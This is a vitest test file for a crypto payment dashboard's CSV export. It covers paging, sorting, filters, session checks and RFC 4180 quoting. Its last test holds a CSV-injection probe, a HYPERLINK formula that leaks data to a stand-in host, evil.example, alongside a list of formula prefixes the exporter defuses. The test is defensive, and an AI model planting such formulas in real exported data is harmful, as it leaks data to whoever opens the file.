// The dashboard's CSV export against a real database: every match of the filters, read page
// by page, only the signed-in platform's, amounts in each token's decimals (18 on bsc).
import { beforeAll, describe, expect, it } from "vitest";
import * as route from "@/app/dashboard/(signed-in)/payments/export/route";
import { db } from "../db/client";
import { createTestSession } from "../orchestrators/fixtures";
import { insertFixturePayment, insertFixtureRequest } from "../payments/search-fixtures";
import { createTestPlatform } from "../test/fixtures";
import { csvField, exportPaymentsCsv } from "./payments-csv";

const PAYER = "0x1111111111111111111111111111111111111111";
const PAYEE = "0x6923831ACf5c327260D7ac7C9DfF5b1c3cB3C7D7"; // the fixture requests' payee
let cookie: string;
let platformId: string;
const ids: string[] = [];
let otherId: string;

async function csv(query = "", pageSize?: number): Promise<{ status: number; text: string; type: string | null }> {
  const req = new Request(`http://localhost:3000/dashboard/payments/export${query}`, { headers: { cookie } });
  const res = pageSize ? await exportPaymentsCsv(req, new Date(), pageSize) : await route.GET(req);
  return { status: res.status, text: await res.text(), type: res.headers.get("content-type") };
}

const rowsOf = (text: string) => text.trimEnd().split("\r\n");

beforeAll(async () => {
  const p = await createTestPlatform("exporting shop");
  platformId = p.platformId;
  cookie = `session_token=${(await createTestSession(platformId)).token}`;
  const base = await insertFixtureRequest({ platformId, reference: 'ORDER "7", rush' });
  const bsc = await insertFixtureRequest({
    platformId,
    network: "bsc",
    invoiceCurrency: "USDT-bsc",
    paymentCurrency: "USDT-bsc",
    reference: "=HYPERLINK(1)",
  });
  ids.push(
    (
      await insertFixturePayment({
        platformId,
        requestId: base.requestId,
        amount: 12_345_678n,
        payerAddress: PAYER,
        blockTime: new Date("2024-03-01T10:00:00.000Z"),
      })
    ).id,
  );
  ids.push(
    (
      await insertFixturePayment({
        platformId,
        requestId: bsc.requestId,
        network: "bsc",
        currency: "USDT-bsc",
        amount: 1_500_000_000_000_000_001n,
        blockTime: new Date("2024-03-02T10:00:00.000Z"),
      })
    ).id,
  );
  for (let i = 0; i < 3; i++)
    ids.push(
      (
        await insertFixturePayment({
          platformId,
          requestId: base.requestId,
          blockTime: new Date(`2024-02-0${i + 1}T00:00:00.000Z`),
        })
      ).id,
    );
  const other = await createTestPlatform("other shop");
  const foreign = await insertFixtureRequest({ platformId: other.platformId });
  otherId = (
    await insertFixturePayment({
      platformId: other.platformId,
      requestId: foreign.requestId,
      blockTime: new Date("2024-03-01T11:00:00.000Z"),
    })
  ).id;
});

describe("payments CSV export", () => {
  it("streams every match of the platform, newest first, amounts per token decimals, with the USD value and the payee", async () => {
    const r = await csv();
    expect(r.status).toBe(200);
    expect(r.type).toBe("text/csv; charset=utf-8");
    const rows = rowsOf(r.text);
    expect(rows[0]).toBe(
      "time,payment_id,network,type,amount,currency,usd_value,invoice_currency,fee,payer,payee,tx_hash,request_id,payment_reference,reference,request_paid",
    );
    expect(rows).toHaveLength(1 + ids.length);
    expect(r.text).not.toContain(otherId);
    const bscRow = rows[1].split(",");
    expect(bscRow.slice(0, 7)).toEqual([
      "2024-03-02T10:00:00.000Z",
      ids[1],
      "bsc",
      "direct",
      "1.500000000000000001",
      "USDT",
      "1.500000000000000001",
    ]);
    expect(rows[1]).toContain(",'=HYPERLINK(1),");
    const baseRow = rows[2];
    expect(baseRow).toContain(`,12.345678,USDC,12.345678,USDC,0,${PAYER},${PAYEE},`);
    expect(baseRow).toContain(',"ORDER ""7"", rush",');
  });

  it("reads page after page until the last one", async () => {
    const r = await csv("", 2);
    expect(
      rowsOf(r.text)
        .slice(1)
        .map((l) => l.split(",")[1]),
    ).toEqual([ids[1], ids[0], ids[4], ids[3], ids[2]]);
  });

  it("pages by keyset: a payment removed while the export runs (a reorg) shifts no later row out of it", async () => {
    const p = await createTestPlatform("reorged shop");
    const session = `session_token=${(await createTestSession(p.platformId)).token}`;
    const request = await insertFixtureRequest({ platformId: p.platformId });
    const mine: string[] = [];
    for (let i = 0; i < 5; i++)
      mine.push(
        (
          await insertFixturePayment({
            platformId: p.platformId,
            requestId: request.requestId,
            blockTime: new Date(Date.UTC(2024, 4, 5 - i)),
          })
        ).id,
      );
    const res = await exportPaymentsCsv(
      new Request("http://localhost:3000/dashboard/payments/export", { headers: { cookie: session } }),
      new Date(),
      2,
    );
    const reader = res.body!.getReader();
    const decoder = new TextDecoder();
    let text = "";
    while (rowsOf(text).length < 3) text += decoder.decode((await reader.read()).value); // the header and the first page
    await (await db()).payment.delete({ where: { id: mine[0] } });
    for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) text += decoder.decode(chunk.value);
    expect(
      rowsOf(text)
        .slice(1)
        .map((l) => l.split(",")[1]),
    ).toEqual(mine);
  });

  it("follows the list's order; amounts compare at their own decimals (1.5 on bsc is less than 10 on base)", async () => {
    const order = async (sort: string) =>
      rowsOf((await csv(`?sort=${sort}`, 2)).text)
        .slice(1)
        .map((l) => l.split(",")[1]);
    expect(await order("amount_desc")).toEqual([ids[0], ids[4], ids[3], ids[2], ids[1]]);
    expect(await order("amount_asc")).toEqual([ids[1], ids[4], ids[3], ids[2], ids[0]]);
    expect(await order("oldest")).toEqual([ids[2], ids[3], ids[4], ids[0], ids[1]]);
  });

  it("applies the payments page's filters", async () => {
    const r = await csv("?network=ignored&fromDate=2024-03-01&paymentCurrency=USDC");
    expect(
      rowsOf(r.text)
        .slice(1)
        .map((l) => l.split(",")[1]),
    ).toEqual([ids[0]]);
  });

  it("refuses an invalid filter instead of exporting everything", async () => {
    const r = await csv("?walletAddress=0x12");
    expect(r.status).toBe(400);
    expect(JSON.parse(r.text)).toMatchObject({ code: "validation_failed", errors: [{ field: "walletAddress" }] });
  });

  it("needs a dashboard session", async () => {
    const res = await route.GET(new Request("http://localhost:3000/dashboard/payments/export"));
    expect(res.status).toBe(401);
    const bad = await route.GET(
      new Request("http://localhost:3000/dashboard/payments/export", { headers: { cookie: "session_token=nope" } }),
    );
    expect(bad.status).toBe(401);
  });

  it("quotes fields as RFC 4180 and defuses formulas", () => {
    expect(csvField(null)).toBe("");
    expect(csvField("-1.5")).toBe("-1.5");
    expect(csvField("+cmd")).toBe("'+cmd");
    expect(csvField('a"b')).toBe('"a""b"');
  });

  it("defuses every formula form a spreadsheet evaluates, numbers aside (OWASP CSV injection)", () => {
    // The probe's reference: starts like a negative number, runs as a formula.
    expect(csvField('-1+HYPERLINK("https://evil.example/?leak","Invoice")')).toBe(
      '"\'-1+HYPERLINK(""https://evil.example/?leak"",""Invoice"")"',
    );
    for (const formula of ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-2-3", "\uFF1D1+1", "\uFF0B1"])
      expect(csvField(formula).replace(/^"/, ""), JSON.stringify(formula)).toMatch(/^'/);
    for (const number of ["-1.5", "0", "42", "-7", "1000000.000001"]) expect(csvField(number)).toBe(number);
  });
});
